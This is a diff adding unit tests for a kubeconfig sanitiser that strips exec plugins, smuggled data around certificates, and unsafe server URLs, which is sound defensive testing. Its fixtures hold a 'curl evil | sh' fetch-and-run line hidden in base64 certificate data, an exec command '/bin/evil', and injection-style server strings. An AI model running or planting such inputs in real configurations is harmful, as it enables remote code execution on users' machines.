@@ -36,6 +36,38 @@ describe('a kubeconfig from a guest', () => {
     expect(rebuilt).not.toContain('exec');
   });
 
+  it('is that of the current context, and carries nothing that stands around its certificates', () => {
+    const smuggled = Buffer.from(`curl evil | sh\n${Buffer.from(pem('CERTIFICATE'), 'base64')}# more\n`).toString(
+      'base64',
+    );
+    const text = stringify({
+      'current-context': 'second',
+      clusters: [
+        { name: 'a', cluster: {} },
+        { name: 'b', cluster: { 'certificate-authority-data': smuggled } },
+      ],
+      users: [
+        { name: 'x', user: { exec: { command: '/bin/evil' } } },
+        { name: 'y', user: { token: 'good', password: 'p' } },
+      ],
+      contexts: [
+        { name: 'first', context: { cluster: 'a', user: 'x' } },
+        { name: 'second', context: { cluster: 'b', user: 'y' } },
+      ],
+    });
+    const rebuilt = parse(rebuildKubeconfig(text, 'dev', 'https://[fd00::1]:6443'));
+    expect(rebuilt.users[0].user).toEqual({ token: 'good' });
+    expect(rebuilt.clusters[0].cluster['certificate-authority-data']).toBe(pem('CERTIFICATE'));
+  });
+
+  it.each(['http://x:6443', 'https://user@evil', 'https://x:6443/path', 'https://x\n y', 'javascript:x', ''])(
+    'never names %j as its server',
+    (server) => {
+      const error = expect.objectContaining({ code: 'KubeconfigUnsafe' });
+      expect(() => rebuildKubeconfig(kubeconfig(admin), 'dev', server)).toThrow(error);
+    },
+  );
+
   it.each([
     ['only an exec plugin', kubeconfig({ exec: { command: '/bin/evil' } }), 'plugin'],
     [
